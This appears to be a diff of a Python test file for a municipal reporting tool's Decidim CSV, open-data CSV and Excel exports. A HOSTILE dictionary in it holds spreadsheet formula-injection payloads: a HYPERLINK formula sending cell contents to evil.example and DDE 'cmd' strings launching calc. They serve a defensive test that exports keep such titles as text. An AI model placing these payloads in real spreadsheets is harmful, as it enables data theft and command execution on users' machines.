@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
 from models.enums import Health, MeasureStatus, MilestoneKind, Priority
-from reports.data import ReportData
+from reports.data import MeasureEntry, ReportData
 from reports.exports import (
     write_decidim_csv,
     write_open_data_csv,
@@ -92,7 +92,34 @@ def test_the_annex_keeps_real_dates_and_numbers_in_german_display_formats(tmp_pa
 def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
     book = load_workbook(write_xlsx_annex(_data(), tmp_path / "anhang.xlsx", language="de"))
     title = _rows(book["Maßnahmen"])[1]["Titel"]
-    assert (title.value, title.data_type) == (FORMULA, "s")
+    # A string cell, and quote-prefixed: Excel keeps it text even once someone edits it.
+    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA, "s", True)
+
+
+HOSTILE = {
+    "H-01": '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
+    "H-02": "+cmd|' /C calc'!A0",
+    "H-03": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "H-04": "-2+3 Tabletts",
+    "H-05": "\tTabulator",
+}
+
+
+def test_no_export_of_the_report_writes_a_formula(tmp_path: Path) -> None:
+    hostile = [report.measure(code, title=title) for code, title in HOSTILE.items()]
+    data = report.report_data(hostile)
+    with write_decidim_csv(data, tmp_path / "decidim.csv").open(encoding="utf-8") as stream:
+        decidim = list(csv.DictReader(stream, delimiter=";"))
+    with write_open_data_csv(data, tmp_path / "open.csv").open(encoding="utf-8") as stream:
+        open_data = list(csv.DictReader(stream))
+    annex = load_workbook(write_xlsx_annex(data, tmp_path / "anhang.xlsx", language="de"))
+    titles = {row["Nr."].value: row["Titel"] for row in _rows(annex["Maßnahmen"])}
+    for code, title in HOSTILE.items():
+        assert next(r for r in decidim if r["reference"] == code)["title/de"] == "'" + title
+        assert next(r for r in open_data if r["code"] == code)["title"] == "'" + title
+        assert (titles[code].value, titles[code].data_type) == (title, "s")
+    cells = [cell for row in [*decidim, *open_data] for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 def test_milestones_and_ozg_services_have_sheets_of_their_own(tmp_path: Path) -> None:
@@ -167,7 +194,7 @@ def test_open_data_json_holds_measures_with_milestones_services_and_figures(
 
 # The columns of Decidim's accountability export and import (see reports/exports.py).
 DECIDIM_COLUMNS = [
-    "id", "parent/id", "title/de", "title/en", "description/de", "description/en",
+    "id", "parent/id", "external_id", "title/de", "title/en", "description/de", "description/en",
     "start_date", "end_date", "status/id", "status/key", "status/name/de", "status/name/en",
     "progress", "reference",
 ]  # fmt: skip
@@ -210,3 +237,59 @@ def test_decidim_measures_are_children_of_their_field(tmp_path: Path) -> None:
     assert (measures["V-02"]["status/key"], measures["V-02"]["status/name/de"]) == (
         "done", "abgeschlossen",
     )  # fmt: skip
+    assert v01["external_id"] == "default/V-01"
+
+
+# What Decidim's accountability importer (results_csv_importer.rb) reads from each row, with
+# `de` as the organisation's default locale; the other columns are carried along.
+DECIDIM_READS = (
+    "id", "parent/id", "title/de", "description/de", "start_date", "end_date", "status/id",
+    "progress",
+)  # fmt: skip
+DECIDIM_LARGEST_ID = 2**31 - 1  # its result and parent ids are 32-bit integer columns
+
+
+def _as_decidim_reads(rows: list[dict[str, str]]) -> None:
+    """What Decidim's importer needs of each row to create it and link it to its parent."""
+    ids = [row["id"] for row in rows]
+    assert len(set(ids)) == len(ids), "each result has an id of its own"
+    for row in rows:
+        assert set(DECIDIM_READS) <= set(row)
+        assert 0 < int(row["id"]) <= DECIDIM_LARGEST_ID
+        assert row["parent/id"] == "" or row["parent/id"] in ids[: ids.index(row["id"])]
+        assert row["title/de"] and row["description/de"], "Decidim requires both"
+        for day in (row["start_date"], row["end_date"]):
+            assert day == "" or date.fromisoformat(day)
+        assert row["status/id"] == "" or row["status/id"].isdigit()
+        assert 0 <= float(row["progress"]) <= 100
+
+
+def _quarter(tmp_path: Path, period: str, measures: list[MeasureEntry]) -> list[dict[str, str]]:
+    path = write_decidim_csv(
+        report.report_data(measures, period_code=period), tmp_path / f"decidim-{period}.csv"
+    )
+    with path.open(encoding="utf-8", newline="") as stream:
+        return list(csv.DictReader(stream, delimiter=";"))
+
+
+def test_decidim_ids_are_unique_and_stay_with_their_measure_from_quarter_to_quarter(
+    tmp_path: Path,
+) -> None:
+    fields = ["Verwaltung", "Bildung", "Mobilität"]
+    measures = [
+        report.measure(f"M-{n:03d}", field_of_action=fields[n % 3], description="")
+        for n in range(300)
+    ]
+    summer = _quarter(tmp_path, "2026-Q2", measures)
+    autumn = _quarter(
+        tmp_path, "2026-Q3", [report.measure("A-00", field_of_action="Bildung"), *measures]
+    )
+    _as_decidim_reads(summer)
+    _as_decidim_reads(autumn)
+    assert (len(summer), len(autumn)) == (303, 304)
+    before = {row["reference"] or row["title/de"]: row["id"] for row in summer}
+    after = {row["reference"] or row["title/de"]: row["id"] for row in autumn}
+    assert {key: after[key] for key in before} == before
+    assert after["A-00"] not in before.values()
+    # Without a description of its own, a measure is described by its title.
+    assert summer[1]["description/de"] == f"<p>{summer[1]['title/de']}</p>"
